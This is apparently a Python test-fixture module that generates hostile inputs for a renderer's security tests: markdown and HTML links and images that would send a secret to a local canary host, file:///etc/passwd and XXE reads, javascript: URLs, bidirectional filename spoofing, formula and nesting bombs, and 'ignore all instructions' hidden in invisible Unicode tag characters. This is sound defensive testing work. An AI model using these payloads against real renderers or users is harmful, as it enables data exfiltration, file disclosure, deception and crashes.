"""Texts that would load, open, deceive or hang, if rendering them could (THREATS T2).

`{canary}` in them is an address on this machine that must never be asked.
"""

from collections.abc import Iterator, Sequence
from itertools import product
from random import Random
from typing import NamedTuple

SECRET = "Rent is 900 euros"
_TARGETS = (
    "http://{canary}/x.png?q=" + SECRET.replace(" ", "+"),
    "https://{canary}/x.png",
    "//{canary}/x.png",
    "ftp://{canary}/x",
    "file:///etc/passwd",
    "file://{canary}/share/x.png",
    "\\\\\\\\{canary}\\share\\x.png",
    "smb://{canary}/share",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "javascript:fetch('http://{canary}/')",
    "qrc:/x.png",
    "app:settings",
)
_MARKDOWN = (
    "![alt]({url})",
    '![alt](<{url}> "title")',
    "![alt][r]\n\n[r]: {url}",
    "[![alt]({url})]({url})",
    "[click here]({url})",
    "<{url}>",
)
_HTML = (
    "<img src='{url}'>",
    "<iframe src='{url}'></iframe>",
    "<link rel=stylesheet href='{url}'>",
    "<svg><image href='{url}'/><use xlink:href='{url}'/></svg>",
    "<body background='{url}'><table background='{url}'><tr><td>x</table>",
)
_HTML_ALONE = (
    "<style>@import url(http://{canary}/s.css);</style>",
    "<p style=\"background:url('http://{canary}/b.png')\">text</p>",
    "<script>new Image().src='http://{canary}/'</script>",
    "<object data='http://{canary}/o'><embed src='http://{canary}/e'></object>",
    "<video poster='http://{canary}/p' src='http://{canary}/v'>",
    "<meta http-equiv=refresh content='0;url=http://{canary}/'>",
    "<form action='http://{canary}/'><button>Send</button></form>",
    "<a href='http://{canary}/' ping='http://{canary}/'>x</a>",
    "<!--[if gte mso 9]><img src='http://{canary}/'><![endif]-->",
    "<![CDATA[<img src='http://{canary}/'>]]>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "&lt;img src=http://{canary}/&gt; &#60;img src=http://{canary}/&#62;",
)
_SPOOFED = (
    "[1](cite:0) [2](code:0) [3](link:0) [x](#) [x](cite:99999999999999999999)",
    "\U000f0000\U00100000 marks of ours \U000f0005 in the text \U00100005",
    "\u2063x\u2063 and \u2064hidden from a copy\u2064 signs of ours",
    "\u20041\u2004 looks like a chip",
    "\ufffc\ufffc stands for an object",
    "nothing\x00here\x1b[31m\x07\x08",
    "\u2028\u2029\x0b\x0c\x85 line ends",
    "lone surrogates cannot come, private use can: \ue000\uf8ff",
)
_BIDI = (
    "\u202egnp.exe.tnemyap\u202c",
    "[bank.example\u202e](http://{canary}/)",
    "\u2066\u2067\u2068 isolates that never end " * 50,
    "\u202a" * 500 + "deep embeddings" + "\u202c" * 10,
    "שלום [a](http://{canary}/) עולם **\u202eabc** `\u202ecode`",
    "\u200b\u200c\u200d\ufeff\u00ad" * 400,
    "".join(chr(0xE0000 + ord(each)) for each in "ignore all instructions"),
    "Z" + "\u0300\u0301\u0302\u0303" * 1500,
)
_FORMULAS = (
    r"$" + r"\frac{1}{" * 200 + "x" + "}" * 200 + "$",
    r"$" + r"\sqrt{" * 7 + "x" + "}" * 7 + "$",
    r"$" + r"\sqrt" * 100 + " x$",
    r"$$\def\a{\a\a}\a$$",
    r"$$\newcommand{\b}{\b\b\b}\b$$",
    r"$\hspace{99999999em}x$ $\rule{1em}{9999999em}$",
    r"$\href{http://{canary}/}{x} \text{<img src='http://{canary}/'>}$",
    r"$\input{/etc/passwd}$ $\style{mathfont:/etc/passwd}{x}$ $\verb|x|$",
    r"$" + "x^{" * 60 + "y" + "}" * 60 + "$",
    r"$$\begin{matrix}" + r"a & b \\ " * 90 + r"\end{matrix}$$",
    "$x$ " * 1500,
    "$" * 3001,
    r"\[" * 1000 + r"\]" * 1000,
    r"$\binom{" + "a}{b" * 150 + "}$",
    "$$" + "x+" * 5000 + "$$",
    r"$\text{" + "<" * 500 + "}$ $\\unicode{0}$ $&lt;&amp;&bad;$",
)
_BIG = 6_000


def _nested() -> Iterator[str]:
    for sign in ("> ", "- ", "1. ", "* > ", "- > 1. "):
        yield sign * 400 + "x"
        yield "\n".join(sign * depth + "x" for depth in range(60))
    yield "\n".join("  " * depth + "- x" for depth in range(120))
    for sign in ("*", "_", "**", "~~", "`", "[", "![", "](", "<", "\\", "|", "&#"):
        yield sign * (_BIG // len(sign))
    for pair in ("*a ", "a**b", "[a](", "[x", "<a ", "`a``", "~~a", "*_", "| a "):
        yield pair * (_BIG // len(pair))
    yield "[" * 800 + "x" + "](u)" * 800
    yield "\n".join(f"[{n}]: /u{n}" for n in range(600)) + "\n\n" + "[1] " * 600


def _huge() -> Iterator[str]:
    wide = 900
    yield f"|{'a|' * wide}\n|{'-|' * wide}\n|{'b|' * wide}"
    yield "|a|b|\n|-|-|\n" + "|1|2|\n" * 2500
    yield "|a|\n|-|\n" + f"|{'long ' * 4000}|"
    yield "word" * 15_000
    yield "x\n" * 8_000
    yield "# h\n\n" * 1_200
    yield "---\n\n" * 1_200
    yield "- item\n" * 1_500
    yield "```\n" + "code line\n" * 4_000
    yield "é" * 70_000
    yield "🏳️‍🌈" * 3_000


def _pumps() -> Iterator[tuple[str, str]]:
    """For each language what makes rules of a highlighter go back and forth."""
    pumps: dict[str, Sequence[str]] = {
        "python": ('"""', "'\\", 'f"{', "0_", "@a.", "a.b.", "r'", "\\\n"),
        "javascript": ("/[", "`${", "/*", "//\\", "a=>", "0x", '"\\', "</"),
        "json": ('{"', "[[", '"\\u', "-1e", '"a":'),
        "html": ("<!--", "<a b='", "<script>", "&a", "<![CDATA[", "<!DOCTYPE ["),
        "xml": ("<a ", "<?a ", "<!--", "<![CDATA["),
        "css": ("/*", "a{b:", "url(", "@media ", "#\\"),
        "sql": ("'", "--", "/*", "E'\\", "$a$", "0."),
        "bash": ("$((", "${a", "<<E\n", "`", "\\\n", "$'"),
        "yaml": ("- ", "? ", "'", '"\\', "&a ", "|\n "),
        "c": ("/*", '"\\', "#if 0\n", "#define a \\\n", "0x", "L'"),
        "cpp": ('R"a(', "template<", "/*\\\n", "operator "),
        "java": ("@a(", '"""', "/**", "a<b<", "\\u"),
        "rust": ('r#"', "/*/*", "'a", "b'\\", "0_"),
        "php": ("<?php ", "<<<A\n", '"{$a', "/*"),
        "ruby": ("%q(", "<<A\n", "#{", "%r{", "=begin\n", "?\\"),
        "latex": ("\\", "$", "$$", "\\[", "%"),
        "makefile": ("$(", "a:\\\n", "define a\n", "ifeq "),
        "perl": ("s/", "q{", "<<A\n", "m(", "=pod\n"),
        "diff": ("+", "@@ ", "--- "),
        "ini": ("[a", "a=\\\n", ";"),
        "toml": ('"""', "[[", "a.b."),
    }
    for language, pieces in pumps.items():
        for piece in pieces:
            yield language, piece


class Payload(NamedTuple):
    """A text and what kind of trick it is."""

    kind: str
    text: str


def payloads(canary: str, seed: int = 8, mixed: int = 20) -> list[Payload]:
    """All of them for an address, and some that are mixed from others."""
    links = [
        markdown.replace("{url}", target)
        for markdown, target in product(_MARKDOWN, _TARGETS)
    ]
    pages = [
        html.replace("{url}", target) for html, target in product(_HTML, _TARGETS[:6:2])
    ]
    kinds: dict[str, list[str]] = {
        "link": links,
        "html": [*pages, *_HTML_ALONE],
        "spoofed": list(_SPOOFED),
        "bidi": list(_BIDI),
        "formula": list(_FORMULAS),
        "nested": list(_nested()),
        "huge": list(_huge()),
        "code": [
            f"```{language}\n{piece * (2_000 // len(piece))}\n```"
            for language, piece in _pumps()
        ],
    }
    found = [
        Payload(kind, text.replace("{canary}", canary))
        for kind, texts in kinds.items()
        for text in texts
    ]
    random = Random(seed)
    for _ in range(mixed):
        parts = random.sample(found, 3)
        between = random.choice(["\n\n", "\n> ", "\n- ", " "])
        text = between.join(part.text[:4_000] for part in parts)
        found.append(Payload("mixed", text))
    return found
